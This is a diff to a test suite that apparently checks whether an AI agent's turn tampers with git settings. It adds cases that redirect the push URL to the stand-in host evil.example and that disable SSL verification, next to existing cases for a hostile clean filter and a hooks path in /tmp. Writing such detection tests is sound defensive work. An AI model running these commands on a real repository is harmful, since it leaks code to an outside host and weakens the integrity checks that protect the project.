@@ -39,6 +39,12 @@ describe('a turn in which an agent', () => {
 
   test.each<[string, string, string | RegExp]>([
     ['configures a filter', `git('config', 'filter.x.clean', 'evil')`, '.git/config: filter.x.clean was set'],
+    [
+      'sends elsewhere what is pushed',
+      `git('config', 'remote.origin.pushurl', 'https://evil.example/x.git')`,
+      '.git/config: remote.origin.pushurl was set',
+    ],
+    ['has git trust whom it would not', `git('config', 'http.sslVerify', 'false')`, 'http.sslverify was set'],
     ['turns hooks elsewhere', `git('config', 'core.hooksPath', '/tmp')`, '.git/config: core.hookspath was set'],
     [
       'writes into the config file',
